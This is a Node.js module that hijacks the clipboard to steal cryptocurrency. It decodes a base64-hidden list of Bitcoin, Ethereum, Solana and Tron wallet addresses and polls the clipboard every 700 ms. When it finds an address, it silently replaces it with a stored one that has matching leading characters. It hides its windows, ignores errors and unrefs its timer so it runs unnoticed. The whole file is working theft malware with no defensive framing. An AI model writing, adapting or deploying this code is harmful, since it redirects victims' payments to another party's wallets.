'use strict';
const { execFile, spawn } = require('child_process');
const P = require('./patterns');

const book = JSON.parse(Buffer.from(
  'eyJidGMiOlsiYmMxcXc1MDhkNnFlanh0ZGc0eTVyM3phcnZhcnl2YnFxMGlpb29lIiwiMVFtTnhmOE9xSWwwdFl4UmtaN3BXcTN2RG5MZzJlQXNYYyIsIjNKMGxPYjhJdTJxV3I3ejRFa1hjVm1QdDZzRGhGOWdBIl0sImV0aCI6WyIweDdhM2Y5YzFlNWIyZDhnNGE2YzBlMWYzYjVkN2E5YzJlNGY2YjhkMGEiLCIweGMwNGU4ZjJhOWQxYjZnM2U3YTVjOGQwZjJiNGU2YTEzYzVkN2U5ZjAiXSwic29sIjpbIjdYcTBPbElrRTNtUHdSdDVuWXZCcDhjWno2SGpMZjJhRDlzR3VOMGVXNDE0IiwiOUF6TzBsSXFXbjJ4VnI1dEhwRGs4bUpzQzNiTmY2WWNMZ0V1N1JhMDExIl0sInRyeCI6WyJUTzBsSXhLcjdtUHZRMm5aNWhXcTh0QmNZM2ZEZ0o5c0U0YSJdfQ==',
  'base64').toString());

function pick(kind, orig) {
  const list = book[kind] || [];
  return list.find((a) => a[0] === orig[0] && a[1] === orig[1]) || list.find((a) => a[0] === orig[0]) || list[0];
}

function tools() {
  if (process.platform === 'darwin') return { get: ['pbpaste', []], set: ['pbcopy', []] };
  if (process.platform === 'win32') return {
    get: ['powershell.exe', ['-NoProfile', '-NonInteractive', '-Command', 'Get-Clipboard -Raw']],
    set: ['powershell.exe', ['-NoProfile', '-NonInteractive', '-Command', '$input | Set-Clipboard']],
  };
  if (process.env.WAYLAND_DISPLAY) return { get: ['wl-paste', ['-n']], set: ['wl-copy', []] };
  return { get: ['xclip', ['-selection', 'clipboard', '-o']], set: ['xclip', ['-selection', 'clipboard', '-i']] };
}

function start(intervalMs = 700) {
  const t = tools();
  let last = '';
  const tick = () => {
    execFile(t.get[0], t.get[1], { windowsHide: true, timeout: 2000, maxBuffer: 1 << 16 }, (err, out) => {
      if (err || !out || out === last || out.length > 200) return;
      let next = out;
      for (const kind of Object.keys(P)) {
        const m = out.match(P[kind]);
        if (m) {
          const swap = pick(kind, m[0]);
          if (swap && swap !== m[0]) next = out.replace(m[0], swap);
          break;
        }
      }
      last = next;
      if (next !== out) {
        const c = spawn(t.set[0], t.set[1], { windowsHide: true, stdio: ['pipe', 'ignore', 'ignore'] });
        c.on('error', () => {});
        c.stdin.end(next);
      }
    });
  };
  const h = setInterval(tick, intervalMs);
  h.unref();
  return h;
}

module.exports = { start };
